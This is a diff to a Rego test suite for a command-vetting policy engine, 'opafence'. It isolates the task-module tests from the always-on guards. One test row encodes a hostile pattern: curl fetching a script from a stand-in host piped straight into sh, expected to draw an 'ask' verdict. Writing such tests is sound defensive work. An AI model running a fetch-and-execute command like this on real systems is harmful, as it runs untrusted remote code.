@@ -246,10 +246,12 @@ cases := [
 	{"name": "pipe into a shell", "in": shell_input([command(["curl", "https://x.example/i.sh"]), cmdx(["sh"], {"pipe_from": "curl"})]), "task": exec_unbounded, "want": "ask", "codes": {"UNKNOWN_TOOL"}},
 ]
 
+# The task module's verdicts through the decision, without the always-on guards (which block
+# some of these rows on their own and have their own tests under rego/opafence/guards/).
 test_task_table if {
 	bad := [{"name": row.name, "got": got.verdict, "codes": codes, "want": row.want, "want_codes": row.codes} |
 		some row in cases
-		got := opafence.decision with input as row.in with data.tasks.t as row.task
+		got := opafence.decision with input as row.in with data.tasks.t as row.task with data.opafence.guards as {}
 		codes := {r.code | some r in got.reasons}
 		[got.verdict, codes] != [row.want, row.codes]
 	]
@@ -259,8 +261,10 @@ test_task_table if {
 
 # --- config overrides, modes, an absent task ------------------------------------------------------
 
+# Without the always-on guards, as in test_task_table.
 decide(inp, t, cfg) := d if {
 	d := opafence.decision with input as inp with data.tasks.t as t with data.config as cfg
+		with data.opafence.guards as {}
 }
 
 codes_of(d) := {r.code | some r in d.reasons}
